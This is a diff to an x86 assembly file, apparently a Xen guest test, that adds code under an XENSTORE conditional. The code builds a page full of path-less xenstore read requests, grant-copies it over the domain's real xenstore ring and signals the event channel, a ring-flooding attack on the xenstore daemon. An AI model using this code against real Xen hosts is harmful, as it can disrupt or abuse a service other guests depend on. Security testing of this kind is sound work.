@@ -165,7 +165,57 @@ ask:
     LIST 0
     GRANT cache_flush
 .endif
+.ifdef XENSTORE
+    .pushsection .rodata
+    .balign 4
+pattern:                            # struct multicall_entry: fill the ring, say so
+    .long __HYPERVISOR_grant_table_op, 0, GNTTABOP_copy, copy, 1, 0, 0, 0
+    .long __HYPERVISOR_event_channel_op, 0, EVTCHNOP_send, send, 0, 0, 0, 0
+pattern_end:
+    .popsection
+    call prepare_requests
+    movl $ALIAS, %ebx
+    movl $-1, %ecx
+    HYPERCALL multicall
+.endif
     ret
+
+.ifdef XENSTORE
+# A xenstore ring page that is full of requests without a path. Copied over the real one, it is full again,
+# and its answers are taken.
+    .type prepare_requests, @function
+prepare_requests:
+    movl $requests, %edi
+1:  movl $XS_READ, XSD_SOCKMSG_type(%edi)
+    addl $XSD_SOCKMSG_sizeof, %edi
+    cmpl $requests + XENSTORE_RING_SIZE, %edi
+    jb 1b
+    movl $XENSTORE_RING_SIZE, requests + XENSTORE_DOMAIN_INTERFACE_req_prod
+    movl $requests, %eax
+    call va_to_mfn
+    movl %eax, copy + GNTTAB_COPY_source_u_gmfn
+    movl start_info, %edx
+    movl START_INFO_store_mfn(%edx), %eax
+    movl %eax, copy + GNTTAB_COPY_dest_u_gmfn
+    movl START_INFO_store_evtchn(%edx), %eax
+    movl %eax, send
+    ret
+
+    .bss
+    .balign PAGE_SIZE
+requests:
+    .skip PAGE_SIZE
+
+    .data
+    .balign 4
+send:                               # struct evtchn_send
+    .long 0
+copy:                               # struct gnttab_copy: a whole page, no grants
+    .long 0
+    .word DOMID_SELF, 0
+    .long 0
+    .word DOMID_SELF, 0, PAGE_SIZE, 0, 0, 0
+.endif
 
     .data
     .balign 4
